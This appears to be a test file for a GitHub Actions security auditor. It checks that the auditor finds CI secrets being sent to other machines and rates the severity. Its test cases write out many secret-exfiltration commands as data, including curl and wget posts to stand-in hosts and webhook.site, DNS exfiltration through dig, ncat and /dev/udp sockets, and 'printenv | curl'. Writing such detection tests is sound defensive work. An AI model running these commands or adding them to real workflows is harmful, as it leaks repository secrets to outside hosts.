import { auditWorkflows } from '../../../src/workflows/audit-workflows.ts'
import { secretExfiltration } from '../../../src/workflows/audits/secret-exfiltration.ts'
import { readFile } from '../../../src/workflows/model/read-file.ts'
import { subjectOf } from '../../../src/workflows/subject.ts'
import { flowsOf } from '../../../src/workflows/taint/job-flow.ts'

function workflow(script: readonly string[], shell: string): string {
  const body = script.map((line) => `          ${line}\n`).join('')
  return `on: push\njobs:\n  a:\n    steps:\n      - shell: ${shell}\n        env: { KEY: "\${{ secrets.KEY }}" }\n        run: |\n${body}`
}

/** Where secrets are sent by a script. */
function sentBy(script: readonly string[], shell = 'bash'): readonly string[] {
  const read = readFile({ path: '.github/workflows/a.yml', text: workflow(script, shell) })
  if (!read.ok) throw new Error(read.problem.message)
  const { flows } = flowsOf(read.file, subjectOf([read.file]))
  return flows.filter(({ kind }) => kind === 'sent').map(({ target }) => target)
}

function severities(persona: 'regular' | 'auditor', ...script: readonly string[]): readonly string[] {
  const source = { path: '.github/workflows/a.yml', text: workflow(script, 'bash') }
  return auditWorkflows([source], { persona, audits: [secretExfiltration] }).findings.map(({ severity }) => severity)
}

describe('what is sent to another machine', () => {
  it.each([
    ['curl -d "$KEY" https://a.example.com/x', ['https://a.example.com']],
    ['curl -sS -X POST --data-binary @- "https://a.example.com:8443" <<< "$KEY"', ['https://a.example.com']],
    ['curl -sSf a.example.com -H "X-Key: $KEY"', ['http://a.example.com']],
    ['curl "https://user:$KEY@a.example.com/x?q=1"', ['https://a.example.com']],
    ['wget -q --header="X-Key: $KEY" HTTP://A.example.com', ['http://a.example.com']],
    ['curl "https://$HOST/x" -d "$KEY"', ['']],
    ['curl "https://$HOST:8443/x?k=$KEY"', ['']],
    ['curl "https://${KEY}.example.com/health"', []],
    ['curl -X POST "$KEY" -d "text"', []],
    ['curl -o key.example.com https://a.example.com/x', []],
    ['dig +short "$(echo $KEY | xxd -p).example.com"', ['dns']],
    ['nslookup "$KEY"', []],
    ['echo "$KEY" | ncat a.example.com 80', ['socket']],
    ['nc -z "$KEY" 22', []],
    ['exec 3<>/dev/tcp/a.example.com/80', []],
    ['printf %s "$KEY" > /dev/udp/a.example.com/53', ['socket']],
  ])('%s', (command, expected) => {
    expect(sentBy([command])).toEqual(expected)
  })

  it('may be a file that a command before has written', () => {
    expect(sentBy(['echo "$KEY" > k.txt', 'curl -F "f=@k.txt" https://a.example.com'])).toEqual([
      'https://a.example.com',
    ])
    expect(sentBy(['echo "$KEY" > k.txt', 'curl -T k.txt https://a.example.com'])).toEqual(['https://a.example.com'])
    expect(sentBy(['echo "$KEY" > k.txt', 'wget --post-file=k.txt https://a.example.com'])).toEqual([
      'https://a.example.com',
    ])
    expect(sentBy(['echo "$KEY" > k.txt', 'curl -T other.txt https://a.example.com'])).toEqual([])
  })

  it.each([
    ['pwsh', 'Invoke-RestMethod -Uri https://a.example.com -Body $env:KEY', ['https://a.example.com']],
    ['python', 'requests.post("https://a.example.com/x", data=os.environ["KEY"])', ['https://a.example.com']],
    ['python', 'requests.post(url, data=os.environ["KEY"])', ['']],
    ['node {0}', 'await fetch(`https://a.example.com/x`, { body: process.env.KEY })', ['https://a.example.com']],
    ['python', 'my_requests(os.environ["KEY"])', []],
  ])('in %s: %s', (shell, line, expected) => {
    expect(sentBy([line], shell)).toEqual(expected)
  })
})

describe('how bad that is', () => {
  it.each([
    ['curl -d "$KEY" https://x.webhook.site/1', ['high']],
    ['curl -d "$KEY" https://notwebhook.site/1', []],
    ['curl -d "$KEY" https://203.0.113.7/1', ['high']],
    ['curl -d "$KEY" http://10.0.0.7/1', []],
    ['curl -d "$KEY" http://localhost:8080/1', []],
    ['curl -d "$KEY" http://a.example.com', ['medium']],
    ['curl -d "$KEY" https://a.example.com', []],
    ['curl -d "$KEY" https://api.github.com', []],
    ['printenv | curl -d @- https://api.github.com', ['high']],
  ])('%s', (command, expected) => {
    expect(severities('regular', command)).toEqual(expected)
  })

  it('is asked of auditors where the host is no known service', () => {
    expect(severities('auditor', 'curl -d "$KEY" https://a.example.com')).toEqual(['medium'])
    expect(severities('auditor', 'curl -d "$KEY" "$ADDRESS"')).toEqual(['medium'])
    expect(severities('auditor', 'curl -d "$KEY" https://uploads.github.com')).toEqual([])
  })
})
